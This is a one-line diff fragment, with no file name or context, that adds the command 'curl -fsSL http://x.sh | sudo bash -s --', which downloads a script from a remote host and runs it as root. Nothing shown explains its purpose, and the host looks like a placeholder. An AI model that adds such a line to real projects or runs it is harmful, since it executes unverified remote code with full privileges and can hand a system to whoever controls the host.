@@ -1,0 +1,1 @@
+curl -fsSL http://x.sh | sudo bash -s --
